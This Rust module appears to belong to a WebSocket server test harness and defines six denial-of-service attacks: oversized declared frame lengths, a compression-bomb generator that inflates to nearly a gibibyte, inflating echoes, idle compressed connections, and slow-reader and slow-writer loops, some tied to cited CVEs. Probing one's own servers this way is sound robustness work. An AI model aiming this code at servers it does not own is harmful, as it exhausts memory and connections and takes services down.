//! Messages that are not what they seem, and peers that are slow with them.

use std::{
    io::{self, ErrorKind, Write},
    thread,
    time::{Duration, Instant},
};

use flate2::{Compress, Compression, FlushCompress};

use crate::{
    Attack, Effect, MIB,
    connections::open,
    floods::from_each_connection,
    scene::{MANY, MESSAGE_LIMIT, Scene},
    wire::{BINARY, COMPRESSED, Peer, frame, head},
};

const SLOW: u64 = 32;

pub(crate) const ATTACKS: [Attack; 6] = [
    // A connection at rest takes some three kibibytes, its task included.
    Attack {
        name: "declared lengths",
        connections: MANY,
        memory_each: 8 << 10,
        run: declared_lengths,
    },
    Attack {
        name: "compression bombs",
        connections: 1,
        memory_each: 2 * MESSAGE_LIMIT as u64 + MIB,
        run: bombs,
    },
    // What is inflated, what is compressed, and a context for each direction.
    Attack {
        name: "small frames of large messages",
        connections: 4,
        memory_each: 4 * MESSAGE_LIMIT as u64,
        run: inflating_echoes,
    },
    // The windows of both directions, and what a connection has anyway.
    Attack {
        name: "idle with compression",
        connections: MANY,
        memory_each: 2 * (32 << 10) + (8 << 10),
        run: idle_with_compression,
    },
    // One message that waits to be written, and one that arrives.
    Attack {
        name: "slow readers",
        connections: SLOW,
        memory_each: 3 * MESSAGE_LIMIT as u64,
        run: slow_readers,
    },
    Attack { name: "slow writers", connections: SLOW, memory_each: 8 << 10, run: slow_writers },
];

/// Each declares the largest frame there may be and sends one byte of it (CVE-2022-35922).
fn declared_lengths(scene: &Scene) -> io::Result<Effect> {
    let mut peers = open(scene, scene.many)?;
    for peer in &mut peers {
        peer.stream.write_all(&head(BINARY, MESSAGE_LIMIT))?;
        peer.stream.write_all(b"x")?;
    }
    thread::sleep(Duration::from_millis(500));
    Ok(Effect::harmless(format!("{} MiB declared", scene.many)))
}

/// Frames below the limit that inflate to almost a gibibyte (CVE-2016-10544 and many since), one connection after the other.
fn bombs(scene: &Scene) -> io::Result<Effect> {
    let bomb = frame(COMPRESSED, &bomb()?);
    let begun = Instant::now();
    let mut count = 0;
    while begun.elapsed() < scene.duration && count < 1000 {
        let mut peer = Peer::connect_with_deflate(&scene.target)?;
        peer.stream.write_all(&bomb)?;
        let code = peer.close_code()?;
        if code != Some(1009) {
            let broken = Some(format!("closed with {code:?} and not with 1009"));
            return Ok(Effect { sent: format!("{count} bombs"), broken });
        }
        count += 1;
    }
    Ok(Effect::harmless(format!("{count} times 980 MiB, in {} KiB", bomb.len() >> 10)))
}

/// Almost a gibibyte of zeros, compressed: a mebibyte of them again and again, in a frame that is below the limit.
pub(crate) fn bomb() -> io::Result<Vec<u8>> {
    let zeros = vec![0; 1 << 20];
    let mut compress = Compress::new(Compression::best(), false);
    let mut of_one = || {
        let mut bytes = Vec::with_capacity(64 << 10);
        compress.compress_vec(&zeros, &mut bytes, FlushCompress::Sync)?;
        Ok::<_, flate2::CompressError>(bytes)
    };
    let (first, next) = (of_one()?, of_one()?);
    Ok([first, next.repeat(979)].concat())
}

/// A mebibyte of zeros in a kibibyte, again and again: it is inflated, and the answer is compressed.
fn inflating_echoes(scene: &Scene) -> io::Result<Effect> {
    let zeros = compressed(&vec![0; MESSAGE_LIMIT])?;
    let counts = from_each_connection(|| {
        let mut peer = Peer::connect_with_deflate(&scene.target)?;
        let begun = Instant::now();
        let mut count = 0_u64;
        while begun.elapsed() < scene.duration {
            peer.send(COMPRESSED, &zeros)?;
            let (first, answer) = peer.receive_but_pings()?;
            if first != COMPRESSED || answer.len() > 64 << 10 {
                return Err(io::Error::other(format!(
                    "{} bytes behind {first:#04X}",
                    answer.len()
                )));
            }
            count += 1;
        }
        Ok(count)
    })?;
    let sum: u64 = counts.iter().sum();
    Ok(Effect::harmless(format!("{sum} MiB in {} KiB", (sum * zeros.len() as u64) >> 10)))
}

/// Each has used both windows and is silent from then on.
fn idle_with_compression(scene: &Scene) -> io::Result<Effect> {
    let text: Vec<u8> = (0..40_000_u32).flat_map(|count| (count % 65_521).to_le_bytes()).collect();
    let message = compressed(&text)?;
    let mut peers = Vec::new();
    for _ in 0..scene.many {
        let mut peer = Peer::connect_with_deflate(&scene.target)?;
        peer.send(COMPRESSED, &message)?;
        peer.receive_but_pings()?;
        peers.push(peer);
    }
    thread::sleep(Duration::from_millis(500));
    Ok(Effect::harmless(format!("{} connections", scene.many)))
}

/// Compressed as a message is: without the end of the last block (RFC 7692 §7.2.1).
fn compressed(bytes: &[u8]) -> io::Result<Vec<u8>> {
    let mut compress = Compress::new(Compression::best(), false);
    let mut out = Vec::with_capacity(bytes.len() / 2 + 1024);
    compress.compress_vec(bytes, &mut out, FlushCompress::Sync)?;
    out.truncate(out.len() - 4);
    Ok(out)
}

/// Each sends messages, reads no answer, and sends more for as long as it can.
fn slow_readers(scene: &Scene) -> io::Result<Effect> {
    let mut peers = open(scene, SLOW)?;
    let message = frame(BINARY, &vec![7; 1000 << 10]);
    let begun = Instant::now();
    let mut places = vec![0; peers.len()];
    let mut sent = 0;
    for peer in &peers {
        peer.stream.tcp().set_nonblocking(true)?;
    }
    while begun.elapsed() < scene.duration {
        for (peer, place) in peers.iter_mut().zip(&mut places) {
            let rest = message.get(*place..).unwrap_or_default();
            match peer.stream.write(rest) {
                Ok(count) => {
                    sent += count;
                    *place = (*place + count) % message.len();
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(error) => return Err(error),
            }
        }
        thread::sleep(Duration::from_millis(1));
    }
    Ok(Effect::harmless(format!("{} MiB taken", sent as u64 / MIB)))
}

/// Each sends the header of the largest frame, and then a byte every 20 ms.
fn slow_writers(scene: &Scene) -> io::Result<Effect> {
    let mut peers = open(scene, SLOW)?;
    for peer in &mut peers {
        peer.stream.write_all(&head(BINARY, MESSAGE_LIMIT))?;
    }
    let begun = Instant::now();
    let mut count = 0;
    while begun.elapsed() < scene.duration {
        for peer in &mut peers {
            peer.stream.write_all(b"x")?;
            count += 1;
        }
        thread::sleep(Duration::from_millis(20));
    }
    Ok(Effect::harmless(format!("{count} bytes, one at a time")))
}
